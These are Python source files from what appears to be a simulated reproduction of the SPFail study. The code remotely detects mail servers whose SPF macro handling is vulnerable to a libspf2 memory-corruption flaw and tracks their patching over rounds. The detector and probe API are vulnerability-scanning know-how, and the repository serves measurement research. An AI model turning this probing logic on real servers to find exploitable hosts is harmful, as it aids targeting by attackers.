    def ip_status(self, ip: str, date: _dt.datetime) -> Tuple[InferredStatus, Provenance]:
        timeline = self.timelines.get(ip)
        if timeline is None:
            return InferredStatus.INCONCLUSIVE, Provenance.NONE
        return timeline.status_at(date)

    def domain_status(self, name: str, date: _dt.datetime) -> Tuple[InferredStatus, Provenance]:
        """Vulnerable while any initially vulnerable IP is; patched when
        all are; inconclusive otherwise."""
        ips = self.domain_vulnerable_ips.get(name, [])
        if not ips:
            return InferredStatus.INCONCLUSIVE, Provenance.NONE
        statuses = [self.ip_status(ip, date) for ip in ips]
        if any(s == InferredStatus.VULNERABLE for s, _ in statuses):
            provenance = (
                Provenance.MEASURED
                if any(
                    s == InferredStatus.VULNERABLE and p == Provenance.MEASURED
                    for s, p in statuses
                )
                else Provenance.INFERRED
            )
            return InferredStatus.VULNERABLE, provenance
        if all(s == InferredStatus.PATCHED for s, _ in statuses):
            provenance = (
                Provenance.MEASURED
                if all(p == Provenance.MEASURED for _, p in statuses)
                else Provenance.INFERRED
            )
            return InferredStatus.PATCHED, provenance
        return InferredStatus.INCONCLUSIVE, Provenance.NONE

    # -- aggregation ----------------------------------------------------------------

    def round_summaries_ips(self) -> List[RoundSummary]:
        return [
            self._summarize(
                round_.date,
                (self.ip_status(ip, round_.date) for ip in self.timelines),
                len(self.timelines),
            )
            for round_ in self.rounds
        ]

    def round_summaries_domains(
        self, names: Optional[Iterable[str]] = None
    ) -> List[RoundSummary]:
        domain_names = list(names) if names is not None else list(self.domain_vulnerable_ips)
        return [
            self._summarize(
                round_.date,
                (self.domain_status(name, round_.date) for name in domain_names),
                len(domain_names),
            )
            for round_ in self.rounds
        ]

    @staticmethod
    def _summarize(
        date: _dt.datetime,
        statuses: Iterable[Tuple[InferredStatus, Provenance]],
        total: int,
    ) -> RoundSummary:
        measured = inferred = inconclusive = vulnerable = patched = 0
        for status, provenance in statuses:
            if provenance == Provenance.MEASURED:
                measured += 1
            elif provenance == Provenance.INFERRED:
                inferred += 1
            else:
                inconclusive += 1
            if status == InferredStatus.VULNERABLE:
                vulnerable += 1
            elif status == InferredStatus.PATCHED:
                patched += 1
        return RoundSummary(
            date=date,
            total=total,
            measured=measured,
            inferred=inferred,
            inconclusive=inconclusive,
            vulnerable=vulnerable,
            patched=patched,
        )
