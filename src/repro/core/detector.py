"""Remote vulnerability detection for one mail server (paper Section 5.1).

The five-step methodology:

1. open an SMTP connection to the target MTA;
2. advertise a MAIL FROM under a domain unique to this (round, server);
3. terminate before/during message transmission (NoMsg), or transmit an
   entirely empty message (BlankMsg);
4. the measurement DNS server logs the SPF-triggered queries carrying the
   unique labels;
5. classify the server's SPF behavior from those queries.

NoMsg is always attempted first (it guarantees no email is delivered);
BlankMsg is used only when NoMsg elicited no SPF activity.  A curated
username list (random string and ``noreply`` variants first) minimizes
the chance a blank message reaches a human inbox.
"""

from __future__ import annotations

import datetime as _dt
import enum
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Sequence, Set, Tuple

from ..dns.server import SpfTestResponder
from ..smtp.client import SmtpClient, TransactionKind, TransactionResult, TransactionStatus
from .ethics import EthicsControls
from .fingerprint import ExpansionBehavior, classify_prefixes
from .labels import LabelAllocator

#: Paper Section 6.3 — usernames tried, in order.
PROBE_USERNAMES: Tuple[str, ...] = (
    "mmj7yzdm0tbk",
    "noreply",
    "donotreply",
    "no-reply",
    "postmaster",
    "abuse",
    "admin",
    "administrator",
    "newsletters",
    "alerts",
    "info",
    "auto-confirm",
    "appointments",
    "service",
)


class ProbeMethod(enum.Enum):
    NOMSG = "nomsg"
    BLANKMSG = "blankmsg"


class DetectionOutcome(enum.Enum):
    """One server's classification after a detection attempt."""

    VULNERABLE = "vulnerable"
    ERRONEOUS = "erroneous"  # mis-expands macros, but not the CVE pattern
    COMPLIANT = "compliant"
    NO_SPF = "no-spf"  # dialogue completed, no SPF lookup observed
    REFUSED = "refused"  # TCP connection refused
    SMTP_FAILED = "smtp-failed"  # dialogue broke before any SPF evidence
    INCONCLUSIVE = "inconclusive"

    @property
    def spf_measured(self) -> bool:
        return self in (
            DetectionOutcome.VULNERABLE,
            DetectionOutcome.ERRONEOUS,
            DetectionOutcome.COMPLIANT,
        )


@dataclass
class DetectionResult:
    """Everything one detection attempt learned about one server."""

    ip: str
    suite: str
    outcome: DetectionOutcome
    behaviors: Set[ExpansionBehavior] = field(default_factory=set)
    test_ids: List[str] = field(default_factory=list)
    successful_method: Optional[ProbeMethod] = None
    transactions: List[TransactionResult] = field(default_factory=list)
    queries_observed: int = 0
    #: Per-method outcome, for Table 3-style accounting.
    method_outcomes: dict = field(default_factory=dict)

    @property
    def is_vulnerable(self) -> bool:
        return any(b.is_vulnerable for b in self.behaviors)

    @property
    def multiple_patterns(self) -> bool:
        return len(self.behaviors) > 1


class VulnerabilityDetector:
    """Probes individual servers and classifies their SPF behavior."""

    def __init__(
        self,
        client: SmtpClient,
        responder: SpfTestResponder,
        labels: LabelAllocator,
        *,
        ethics: Optional[EthicsControls] = None,
        wait: Optional[Callable[[float], None]] = None,
        now: Optional[Callable[[], _dt.datetime]] = None,
        usernames: Sequence[str] = PROBE_USERNAMES,
        max_greylist_retries: int = 2,
    ) -> None:
        self.client = client
        self.responder = responder
        self.labels = labels
        self.ethics = ethics or EthicsControls()
        self._wait = wait or (lambda seconds: None)
        self._now = now or (lambda: _dt.datetime.now(tz=_dt.timezone.utc))
        self.usernames = tuple(usernames)
        self.max_greylist_retries = max_greylist_retries

    # -- public API -----------------------------------------------------------

    def detect(
        self,
        ip: str,
        suite: str,
        *,
        preferred_method: Optional[ProbeMethod] = None,
        recipient_domain: Optional[str] = None,
    ) -> DetectionResult:
        """Run the detection procedure against one server.

        ``preferred_method`` short-circuits to whichever probe worked in a
        previous round (the paper reused the successful approach).
        ``recipient_domain`` is a domain the server hosts mail for — the
        curated usernames are tried as RCPT recipients under it.
        """
        result = DetectionResult(ip=ip, suite=suite, outcome=DetectionOutcome.INCONCLUSIVE)
        if preferred_method is not None:
            methods = (preferred_method,)
        else:
            methods = (ProbeMethod.NOMSG, ProbeMethod.BLANKMSG)

        for method in methods:
            finished = self._run_method(result, ip, suite, method, recipient_domain)
            result.method_outcomes[method] = result.outcome
            if result.outcome.spf_measured:
                result.successful_method = method
                return result
            if finished:  # refused / hard failure: no point trying further
                return result
        return result

    # -- probe driving ------------------------------------------------------------

    def _run_method(
        self,
        result: DetectionResult,
        ip: str,
        suite: str,
        method: ProbeMethod,
        recipient_domain: Optional[str],
    ) -> bool:
        """Try one probe method, iterating recipient usernames as needed.

        Returns True if detection should stop entirely (hard failure),
        False if the next method may still be tried.
        """
        test_id = self.labels.new_id(suite, ip)
        result.test_ids.append(test_id)
        domain = self.labels.mail_from_domain(suite, test_id)
        sender = f"{self.usernames[0]}@{domain}"
        rcpt_domain = recipient_domain or "recipient.invalid"
        kind = (
            TransactionKind.NOMSG if method == ProbeMethod.NOMSG else TransactionKind.BLANKMSG
        )

        greylist_retries = 0
        username_index = 0
        while username_index < len(self.usernames):
            username = self.usernames[username_index]
            self._respect_waits(ip)
            transaction = self._transact(
                ip, sender, f"{username}@{rcpt_domain}", kind
            )
            result.transactions.append(transaction)

            if self._classify(result, suite, test_id):
                return True

            status = transaction.status
            if status == TransactionStatus.REFUSED:
                result.outcome = DetectionOutcome.REFUSED
                return True
            if status == TransactionStatus.GREYLISTED:
                if greylist_retries >= self.max_greylist_retries:
                    result.outcome = DetectionOutcome.SMTP_FAILED
                    return True
                greylist_retries += 1
                self._wait(self.ethics.greylist_wait.total_seconds())
                continue  # same username, after the 8-minute wait
            if status == TransactionStatus.RCPT_REJECTED:
                username_index += 1
                continue  # walk the curated username list
            if status in (TransactionStatus.FAILED, TransactionStatus.DROPPED):
                result.outcome = DetectionOutcome.SMTP_FAILED
                return True
            # COMPLETED without SPF queries: this method cannot elicit
            # validation from this server; the caller may try the next.
            result.outcome = DetectionOutcome.NO_SPF
            return False

        # Every username was rejected without SPF evidence.
        result.outcome = DetectionOutcome.SMTP_FAILED
        return True

    def _transact(
        self, ip: str, sender: str, recipient: str, kind: TransactionKind
    ) -> TransactionResult:
        self.ethics.connection_opened(ip, self._now())
        try:
            return self.client.probe(ip, sender=sender, recipient=recipient, kind=kind)
        finally:
            self.ethics.connection_closed()

    def _respect_waits(self, ip: str) -> None:
        earliest = self.ethics.earliest_recontact(ip)
        if earliest is not None:
            now = self._now()
            if earliest > now:
                self._wait((earliest - now).total_seconds())

    def _classify(self, result: DetectionResult, suite: str, test_id: str) -> bool:
        """Update the result from the DNS log; True when conclusive."""
        prefixes = self.responder.log.expansion_prefixes(suite, test_id)
        result.queries_observed = len(self.responder.log.entries_for(suite, test_id))
        if not prefixes:
            return False
        behaviors = classify_prefixes(prefixes, test_id, suite, self.responder.base)
        if not behaviors:
            # Only the control mechanism's query arrived — SPF ran, but
            # the macro mechanism never produced a resolvable lookup.
            return False
        result.behaviors |= behaviors
        if result.is_vulnerable:
            result.outcome = DetectionOutcome.VULNERABLE
        elif any(b.is_erroneous for b in result.behaviors):
            result.outcome = DetectionOutcome.ERRONEOUS
        else:
            result.outcome = DetectionOutcome.COMPLIANT
        return True
