"""Exception hierarchy for the SPFail reproduction.

Every subsystem raises exceptions derived from :class:`ReproError` so that
callers can catch simulation-level failures without masking programming
errors.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by this package."""


class DnsError(ReproError):
    """Base class for DNS subsystem errors."""


class NameError_(DnsError):
    """A DNS name was malformed (too long, bad label, bad escape)."""


class WireFormatError(DnsError):
    """A DNS message could not be encoded to or decoded from wire format."""


class ResolutionError(DnsError):
    """A DNS resolution failed (no server, network unreachable, loop)."""


class SpfError(ReproError):
    """Base class for SPF subsystem errors."""


class SpfSyntaxError(SpfError):
    """An SPF record or term was syntactically invalid (permerror)."""


class MacroError(SpfSyntaxError):
    """A macro string was malformed."""


class SmtpError(ReproError):
    """Base class for SMTP subsystem errors."""


class SmtpProtocolError(SmtpError):
    """The peer violated the SMTP protocol."""


class ConnectionRefusedError_(SmtpError):
    """The simulated host refused the TCP connection."""


class SimulationError(ReproError):
    """The simulation itself was misconfigured or used inconsistently."""


class CampaignError(ReproError):
    """A measurement campaign was driven out of order (e.g. a snapshot or
    longitudinal round requested before the initial sweep ran)."""


class StoreError(ReproError):
    """A run store could not satisfy a request (missing or torn
    checkpoints, config-hash mismatch, unusable manifest)."""


class CampaignAborted(ReproError):
    """A checkpointed run was deliberately interrupted (fault injection
    or ``--abort-after-round``); the store holds a resumable checkpoint."""


class ServeError(ReproError):
    """The scan service was misconfigured or could not start."""


class MemoryCorruptionError(ReproError):
    """The simulated C heap detected an out-of-bounds write.

    Raised by :mod:`repro.libspf2.cmem` when vulnerable code overruns an
    allocation, which is how the reproduction surfaces the CVE behavior.
    """

    def __init__(self, message: str, *, block_id: int = -1, offset: int = -1) -> None:
        super().__init__(message)
        self.block_id = block_id
        self.offset = offset
