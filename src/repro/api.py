"""The public API: run descriptions, run handles, and probe schemas.

This module is the single public entrypoint of the reproduction.  The
CLI, the ``repro serve`` daemon, and library embedders all consume the
same small surface:

- :class:`RunConfig` — the one frozen, serializable run description;
- :func:`open_run` / :class:`RunHandle` — build a world and keep it
  resident: batch campaigns (:meth:`RunHandle.run`), incremental rounds
  (:meth:`RunHandle.advance_rounds`), and single probes
  (:meth:`RunHandle.probe_domain` / :meth:`RunHandle.check_mta`) all
  dispatch through the same executor engine, so a probe answered via the
  API emits byte-identical task trace events to the same probe inside a
  batch run;
- :func:`run` / :func:`resume` — one-call wrappers over
  :class:`repro.simulation.Simulation` for the common cases;
- :class:`ProbeRequest` / :class:`ProbeResult` — the stable, versioned
  JSON wire schemas (:data:`SCHEMA_VERSION`) shared by the daemon and
  its clients.

The run-description value
-------------------------

Historically a run was described by a spray of keyword arguments
(``Simulation.build(scale=..., seed=..., population_config=...,
campaign_config=..., executor=..., workers=...)``) plus a separate
``exec.shardworld.WorldSpec`` that repeated three of them for the
process executor's child worlds.  Checkpointable runs need that
description to be a *value*: something that can be serialized into a
store manifest, hashed so a resume can prove it is continuing the same
experiment, and shipped to a worker process to rebuild a world replica.

:class:`RunConfig` is that value.  It is frozen, picklable, and
JSON-round-trippable, and it splits cleanly in two:

- **semantic fields** (``population``, ``campaign``, ``seed``,
  ``retry``) determine every campaign artifact byte-for-byte; they are
  covered by :meth:`RunConfig.content_hash`;
- **runtime fields** (``executor``, ``workers``, ``trace``, ``world``,
  ``perf``) choose how the run executes and observes; results are
  byte-identical across them for the same semantic fields, so they are
  excluded from the hash — a campaign checkpointed under the serial
  executor may be resumed under the process executor and vice versa,
  and a profiled run hashes the same as an unprofiled one.
"""

from __future__ import annotations

import contextlib as _contextlib
import dataclasses
import datetime as _dt
import hashlib
import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from .core.campaign import CampaignConfig, DomainStatus
from .core.detector import DetectionOutcome, DetectionResult, ProbeMethod
from .errors import SimulationError
from .exec.engine import RetryPolicy
from .internet.population import DomainSet, PopulationConfig

#: Version stamped into every :class:`ProbeRequest` / :class:`ProbeResult`
#: wire payload; bumped only on incompatible schema changes.
SCHEMA_VERSION = 1

#: Sentinel distinguishing "not passed" from an explicit ``None`` in
#: :func:`resume`'s runtime overrides.
_UNSET = object()


def _encode_fields(obj) -> Optional[dict]:
    """A JSON-ready dict of a config dataclass (datetimes/timedeltas tagged)."""
    if obj is None:
        return None
    out = {}
    for field in dataclasses.fields(obj):
        value = getattr(obj, field.name)
        if isinstance(value, _dt.datetime):
            value = {"$datetime": value.isoformat()}
        elif isinstance(value, _dt.timedelta):
            value = {"$seconds": value.total_seconds()}
        out[field.name] = value
    return out


def _decode_fields(cls, data: Optional[dict]):
    if data is None:
        return None
    kwargs = {}
    for key, value in data.items():
        if isinstance(value, dict) and "$datetime" in value:
            value = _dt.datetime.fromisoformat(value["$datetime"])
        elif isinstance(value, dict) and "$seconds" in value:
            value = _dt.timedelta(seconds=value["$seconds"])
        kwargs[key] = value
    return cls(**kwargs)


_EXECUTORS = (None, "serial", "sharded", "process")

_WORLD_MODES = ("lazy", "eager")


@dataclass(frozen=True)
class RunConfig:
    """A complete, serializable description of one campaign run."""

    #: population scale relative to the paper's domain counts; used only
    #: when ``population`` is not given explicitly.
    scale: float = 0.05
    #: the simulation seed (population, geography, patching, notification).
    seed: int = 20211011
    #: explicit population knobs; ``None`` derives them from scale/seed.
    population: Optional[PopulationConfig] = None
    #: explicit campaign timeline/probing knobs; ``None`` takes the paper's.
    campaign: Optional[CampaignConfig] = None
    #: probe retry policy; ``None`` is the paper's no-retry methodology.
    retry: Optional[RetryPolicy] = None
    # -- runtime fields (excluded from the content hash) ----------------------
    #: probe-execution strategy name; ``None`` derives from ``workers``.
    executor: Optional[str] = None
    #: worker count for the sharded/process strategies.
    workers: int = 1
    #: whether runs built from this config attach a virtual-time tracer.
    trace: bool = False
    #: world materialization strategy: ``"lazy"`` builds servers on first
    #: touch (memory O(touched)); ``"eager"`` pre-builds every server up
    #: front.  Both produce byte-identical artifacts, so this is a
    #: runtime field outside the content hash.
    world: str = "lazy"
    #: wall-clock telemetry sideband directory (``--perf``), or ``None``.
    #: The sideband writes to separate files only and never feeds back
    #: into artifacts, so — like ``trace`` — it is a runtime field; it is
    #: serialized because process-executor children read it off the
    #: config to write their own per-shard perf streams.
    perf: Optional[str] = None

    def __post_init__(self) -> None:
        if self.executor not in _EXECUTORS:
            raise SimulationError(
                f"unknown executor {self.executor!r} (serial | sharded | process)"
            )
        if self.world not in _WORLD_MODES:
            raise SimulationError(
                f"unknown world mode {self.world!r} (lazy | eager)"
            )

    # -- resolution -----------------------------------------------------------

    def resolved_population(self) -> PopulationConfig:
        """The effective population config (explicit, or from scale/seed)."""
        return self.population or PopulationConfig(scale=self.scale, seed=self.seed)

    def resolved_campaign(self) -> CampaignConfig:
        """The effective campaign config (explicit, or the paper's)."""
        return self.campaign or CampaignConfig()

    # -- identity -------------------------------------------------------------

    def semantic_dict(self) -> dict:
        """The hash-covered payload: everything that determines results."""
        return {
            "population": _encode_fields(self.resolved_population()),
            "campaign": _encode_fields(self.resolved_campaign()),
            "retry": _encode_fields(self.retry),
            "seed": self.seed,
        }

    def content_hash(self) -> str:
        """A stable hex digest of the semantic fields.

        Two configs hash identically exactly when their campaigns produce
        byte-identical artifacts: explicit configs equal to the derived
        defaults hash the same, and runtime fields (executor, workers,
        trace) never perturb the digest.
        """
        blob = json.dumps(
            self.semantic_dict(), sort_keys=True, separators=(",", ":")
        )
        return hashlib.sha256(blob.encode("utf-8")).hexdigest()

    # -- serialization --------------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "scale": self.scale,
            "seed": self.seed,
            "population": _encode_fields(self.population),
            "campaign": _encode_fields(self.campaign),
            "retry": _encode_fields(self.retry),
            "executor": self.executor,
            "workers": self.workers,
            "trace": self.trace,
            "world": self.world,
            "perf": self.perf,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "RunConfig":
        return cls(
            scale=data["scale"],
            seed=data["seed"],
            population=_decode_fields(PopulationConfig, data.get("population")),
            campaign=_decode_fields(CampaignConfig, data.get("campaign")),
            retry=_decode_fields(RetryPolicy, data.get("retry")),
            executor=data.get("executor"),
            workers=data.get("workers", 1),
            trace=data.get("trace", False),
            world=data.get("world", "lazy"),
            perf=data.get("perf"),
        )

    def to_json(self, *, indent: Optional[int] = 2) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=indent)

    @classmethod
    def from_json(cls, text: str) -> "RunConfig":
        return cls.from_dict(json.loads(text))


# -- wire schemas (daemon <-> client) -----------------------------------------

_PROBE_KINDS = ("probe_domain", "check_mta")


def _require_version(data: dict, what: str) -> None:
    version = data.get("v", SCHEMA_VERSION)
    if version != SCHEMA_VERSION:
        raise SimulationError(
            f"unsupported {what} schema version {version!r} "
            f"(this build speaks v{SCHEMA_VERSION})"
        )


@dataclass(frozen=True)
class ProbeRequest:
    """One client probe question, as a stable wire value.

    ``kind`` selects the measurement (``probe_domain`` resolves MX→A and
    probes every address; ``check_mta`` probes a single address);
    ``target`` is the domain name or IP; ``tenant`` identifies the
    requesting party for per-tenant rate limiting (see
    :mod:`repro.serve`).
    """

    kind: str
    target: str
    tenant: str = "public"

    def __post_init__(self) -> None:
        if self.kind not in _PROBE_KINDS:
            raise SimulationError(
                f"unknown probe kind {self.kind!r} "
                f"({' | '.join(_PROBE_KINDS)})"
            )
        if not self.target or not isinstance(self.target, str):
            raise SimulationError("probe request needs a non-empty target")

    def to_dict(self) -> dict:
        return {
            "v": SCHEMA_VERSION,
            "kind": self.kind,
            "target": self.target,
            "tenant": self.tenant,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "ProbeRequest":
        _require_version(data, "ProbeRequest")
        return cls(
            kind=data.get("kind", ""),
            target=data.get("target", ""),
            tenant=data.get("tenant", "public"),
        )


@dataclass(frozen=True)
class IpProbeOutcome:
    """One address's detection outcome, as a stable wire value."""

    ip: str
    outcome: str
    vulnerable: bool
    behaviors: Tuple[str, ...] = ()
    method: Optional[str] = None
    queries_observed: int = 0
    suite: str = ""

    @classmethod
    def from_detection(cls, result: DetectionResult) -> "IpProbeOutcome":
        return cls(
            ip=result.ip,
            outcome=result.outcome.value,
            vulnerable=result.is_vulnerable,
            behaviors=tuple(sorted(b.value for b in result.behaviors)),
            method=(
                result.successful_method.value
                if result.successful_method is not None
                else None
            ),
            queries_observed=result.queries_observed,
            suite=result.suite,
        )

    def to_dict(self) -> dict:
        return {
            "ip": self.ip,
            "outcome": self.outcome,
            "vulnerable": self.vulnerable,
            "behaviors": list(self.behaviors),
            "method": self.method,
            "queries_observed": self.queries_observed,
            "suite": self.suite,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "IpProbeOutcome":
        return cls(
            ip=data["ip"],
            outcome=data["outcome"],
            vulnerable=bool(data.get("vulnerable", False)),
            behaviors=tuple(data.get("behaviors", ())),
            method=data.get("method"),
            queries_observed=int(data.get("queries_observed", 0)),
            suite=data.get("suite", ""),
        )


@dataclass(frozen=True)
class ProbeResult:
    """The answer to one :class:`ProbeRequest`, as a stable wire value.

    ``status`` is the domain-level classification for ``probe_domain``
    (a :class:`repro.core.campaign.DomainStatus` value) and the single
    address's :class:`repro.core.detector.DetectionOutcome` value for
    ``check_mta``; ``ips`` carries the per-address detail either way.
    """

    kind: str
    target: str
    status: str
    vulnerable: bool
    ips: Tuple[IpProbeOutcome, ...] = ()

    def to_dict(self) -> dict:
        return {
            "v": SCHEMA_VERSION,
            "kind": self.kind,
            "target": self.target,
            "status": self.status,
            "vulnerable": self.vulnerable,
            "ips": [ip.to_dict() for ip in self.ips],
        }

    @classmethod
    def from_dict(cls, data: dict) -> "ProbeResult":
        _require_version(data, "ProbeResult")
        return cls(
            kind=data["kind"],
            target=data["target"],
            status=data["status"],
            vulnerable=bool(data.get("vulnerable", False)),
            ips=tuple(
                IpProbeOutcome.from_dict(entry) for entry in data.get("ips", ())
            ),
        )


# -- the resident run handle --------------------------------------------------


class RunHandle:
    """A built world held resident, answering probes and running rounds.

    Everything dispatches through the campaign's executor engine — the
    same code path as a batch ``repro run`` — so a probe answered here
    produces byte-identical task trace events to the same probe inside a
    batch campaign of the same config.  The handle serializes nothing
    itself; it is the in-process object the serve daemon, the CLI, and
    embedders share.

    Handles are *not* thread-safe: the serve layer funnels every
    world-touching request through one dispatcher thread precisely so
    the virtual clock and label allocator advance deterministically.
    """

    def __init__(self, sim) -> None:
        self._sim = sim
        self._rounds: List[object] = []
        resumed = getattr(sim, "_resume", None)
        if resumed is not None:
            self._rounds = list(resumed.rounds)
        self._domain_index: Optional[Dict[str, object]] = None

    # -- introspection --------------------------------------------------------

    @property
    def simulation(self):
        """The underlying :class:`repro.simulation.Simulation`."""
        return self._sim

    @property
    def config(self) -> RunConfig:
        return self._sim.config

    @property
    def campaign(self):
        return self._sim.campaign

    def status(self) -> dict:
        """A compact run-status snapshot (the daemon's ``run_status``)."""
        campaign = self._sim.campaign
        return {
            "v": SCHEMA_VERSION,
            "config_hash": self.config.content_hash(),
            "scale": self.config.resolved_population().scale,
            "seed": self.config.seed,
            "domains": len(self._sim.population),
            "addresses": self._sim.fleet.total_ip_count(),
            "executor": type(campaign.executor).__name__,
            "world": self.config.world,
            "initial_complete": campaign.initial is not None,
            "rounds_completed": len(self._rounds),
            "rounds_total": len(campaign.round_dates()),
            "clock": campaign.clock.now.isoformat(),
        }

    def _observed(self):
        """The simulation's observation, activated (no-op when absent).

        Batch runs activate their observation inside ``Simulation.run``;
        the handle must do the same around every probe dispatch, or an
        API-served probe would silently skip tracing — and the
        byte-identity contract with batch traces could never hold.
        """
        from .obs import observing

        if self._sim.observation is not None:
            return observing(self._sim.observation)
        return _contextlib.nullcontext()

    # -- probes ---------------------------------------------------------------

    def probe_ips(
        self,
        stage: str,
        ips: Sequence[str],
        *,
        recipient_domains: Optional[Dict[str, str]] = None,
    ) -> Dict[str, DetectionResult]:
        """Raw probe dispatch through the executor engine (library use)."""
        with self._observed():
            return self._sim.campaign.probe_ips(
                stage, ips, recipient_domains=recipient_domains
            )

    def probe(self, request: ProbeRequest) -> ProbeResult:
        """Answer one :class:`ProbeRequest` (the daemon's dispatch point)."""
        if request.kind == "probe_domain":
            return self.probe_domain(request.target)
        return self.check_mta(request.target)

    def probe_domain(self, domain: str) -> ProbeResult:
        """Resolve a domain (MX→A) and probe every address, live."""
        campaign = self._sim.campaign
        with self._observed():
            ips = campaign.resolve_ips(domain)
            recipients = {
                ip: campaign.recipient_domain(ip, default=domain) for ip in ips
            }
            results = campaign.probe_ips(
                f"probe {domain}", ips, recipient_domains=recipients
            )
        from .core.campaign import IpInitialRecord

        records = {
            ip: IpInitialRecord(ip=ip, result=result)
            for ip, result in results.items()
        }
        status = campaign._domain_status_from_ips(list(ips), records)
        return ProbeResult(
            kind="probe_domain",
            target=domain,
            status=status.value,
            vulnerable=status is DomainStatus.VULNERABLE,
            ips=tuple(
                IpProbeOutcome.from_detection(results[ip]) for ip in ips
            ),
        )

    def check_mta(self, ip: str) -> ProbeResult:
        """Probe one mail-server address directly."""
        campaign = self._sim.campaign
        with self._observed():
            recipients = {ip: campaign.recipient_domain(ip)}
            results = campaign.probe_ips(
                f"probe {ip}", [ip], recipient_domains=recipients
            )
        result = results[ip]
        return ProbeResult(
            kind="check_mta",
            target=ip,
            status=result.outcome.value,
            vulnerable=result.is_vulnerable,
            ips=(IpProbeOutcome.from_detection(result),),
        )

    # -- census + longitudinal queries ---------------------------------------

    def _domains(self) -> Dict[str, object]:
        if self._domain_index is None:
            self._domain_index = {
                d.name: d for d in self._sim.population.domains
            }
        return self._domain_index

    def census_row(self, domain: str) -> dict:
        """The population/census view of one domain (no probing)."""
        entry = self._domains().get(domain)
        if entry is None:
            raise SimulationError(f"unknown domain {domain!r}")
        campaign = self._sim.campaign
        row = {
            "v": SCHEMA_VERSION,
            "domain": entry.name,
            "tld": entry.tld,
            "sets": [s.name for s in DomainSet if entry.in_set(s)],
            "alexa_rank": entry.alexa_rank,
            "mx_query_count": entry.mx_query_count,
            "provider_name": entry.provider_name,
        }
        initial = campaign.initial
        if initial is not None:
            row["initial_status"] = initial.domain_status.get(
                entry.name, DomainStatus.UNKNOWN
            ).value
            row["ips"] = list(initial.domain_ips.get(entry.name, []))
        return row

    def patch_status_since(self, domain: str, since: int = 0) -> dict:
        """A domain's per-round remediation history from round ``since``.

        Requires the initial sweep (and any rounds of interest) to have
        run — see :meth:`advance_rounds`.  The answer mirrors the
        paper's domain rules: a round counts as *patched* when the
        domain measured vulnerable initially and no tracked address
        still measures vulnerable in that round.
        """
        initial = self._sim.campaign._require_initial()
        if domain not in initial.domain_status:
            raise SimulationError(f"unknown domain {domain!r}")
        initially = initial.domain_status[domain]
        ips = initial.domain_ips.get(domain, [])
        rounds = []
        for index, rnd in enumerate(self._rounds):
            if index < since:
                continue
            outcomes = {
                ip: rnd.results[ip].value for ip in ips if ip in rnd.results
            }
            vulnerable = any(
                rnd.results[ip] is DetectionOutcome.VULNERABLE
                for ip in ips
                if ip in rnd.results
            )
            measured = any(
                rnd.results[ip].spf_measured for ip in ips if ip in rnd.results
            )
            if vulnerable:
                status = DomainStatus.VULNERABLE
            elif initially is DomainStatus.VULNERABLE and measured:
                status = DomainStatus.PATCHED
            else:
                status = DomainStatus.UNKNOWN
            rounds.append(
                {
                    "round": index,
                    "date": rnd.date.isoformat(),
                    "status": status.value,
                    "outcomes": outcomes,
                }
            )
        latest = rounds[-1]["status"] if rounds else None
        return {
            "v": SCHEMA_VERSION,
            "domain": domain,
            "since": since,
            "initial_status": initially.value,
            "rounds": rounds,
            "patched": latest == DomainStatus.PATCHED.value,
        }

    # -- campaign progression -------------------------------------------------

    def ensure_initial(self):
        """Run the initial sweep if it has not happened yet."""
        campaign = self._sim.campaign
        if campaign.initial is None:
            with self._observed():
                campaign.run_initial()
        return campaign.initial

    def advance_rounds(self, count: int = 1) -> List[object]:
        """Run the next ``count`` scheduled longitudinal rounds.

        Returns the newly completed :class:`MeasurementRound` objects
        (fewer than ``count`` when the schedule runs out).  Private
        notification is a batch-run concern and is not triggered here.
        """
        self.ensure_initial()
        campaign = self._sim.campaign
        tracked = campaign.tracked_ips()
        done = len(self._rounds)
        fresh = []
        with self._observed():
            for date in campaign.round_dates()[done : done + count]:
                fresh.append(campaign.run_round(date, tracked))
        self._rounds.extend(fresh)
        return fresh

    def run(self, *, store=None):
        """Run (or finish) the full batch campaign timeline."""
        result = self._sim.run(store=store)
        self._rounds = list(result.rounds)
        return result

    def close(self) -> None:
        """Release worker processes (idempotent)."""
        self._sim.campaign.executor.shutdown()

    def __enter__(self) -> "RunHandle":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()


# -- module-level entry points ------------------------------------------------


def open_run(
    config: Optional[RunConfig] = None, *, observation=None
) -> RunHandle:
    """Build a world from ``config`` and return it as a resident handle."""
    from .simulation import Simulation

    sim = Simulation.build(config=config or RunConfig(), observation=observation)
    return RunHandle(sim)


def run(
    config: Optional[RunConfig] = None, *, observation=None, store=None
):
    """Run one full campaign; returns the :class:`CampaignResult`.

    ``store`` optionally checkpoints the run into a
    :class:`repro.store.RunStore` after the initial sweep and after
    every completed round.
    """
    return open_run(config, observation=observation).run(store=store)


def resume(
    store,
    config_hash: Optional[str] = None,
    *,
    observation=None,
    executor: object = _UNSET,
    workers: object = _UNSET,
    perf: object = _UNSET,
) -> RunHandle:
    """Reconstruct a checkpointed campaign from a store, as a handle.

    ``store`` is a :class:`repro.store.RunStore`, a store directory
    path, or an already-loaded :class:`repro.store.RunState`;
    ``config_hash`` pins the run to resume (a mismatch is an error
    listing what the store holds).  ``executor``/``workers``/``perf``
    override the stored runtime strategy — they are outside the content
    hash precisely because results do not depend on them.  Continue with
    ``handle.run(store=...)`` or serve probes straight off the handle.
    """
    from .simulation import Simulation
    from .store import RunState, RunStore

    if isinstance(store, str):
        store = RunStore(store)
    if isinstance(store, RunStore):
        source = store.load_latest(config_hash=config_hash)
    elif isinstance(store, RunState):
        source = store
    else:
        raise SimulationError(
            f"cannot resume from {type(store).__name__}; pass a store "
            "directory path, a repro.store.RunStore, or a RunState"
        )
    overrides = {}
    if executor is not _UNSET:
        overrides["executor"] = executor
    if workers is not _UNSET:
        overrides["workers"] = workers
    if perf is not _UNSET:
        overrides["perf"] = perf
    sim = Simulation.resume(source, observation=observation, **overrides)
    return RunHandle(sim)
