"""The one run-description value: :class:`RunConfig`.

Historically a run was described by a spray of keyword arguments
(``Simulation.build(scale=..., seed=..., population_config=...,
campaign_config=..., executor=..., workers=...)``) plus a separate
``exec.shardworld.WorldSpec`` that repeated three of them for the
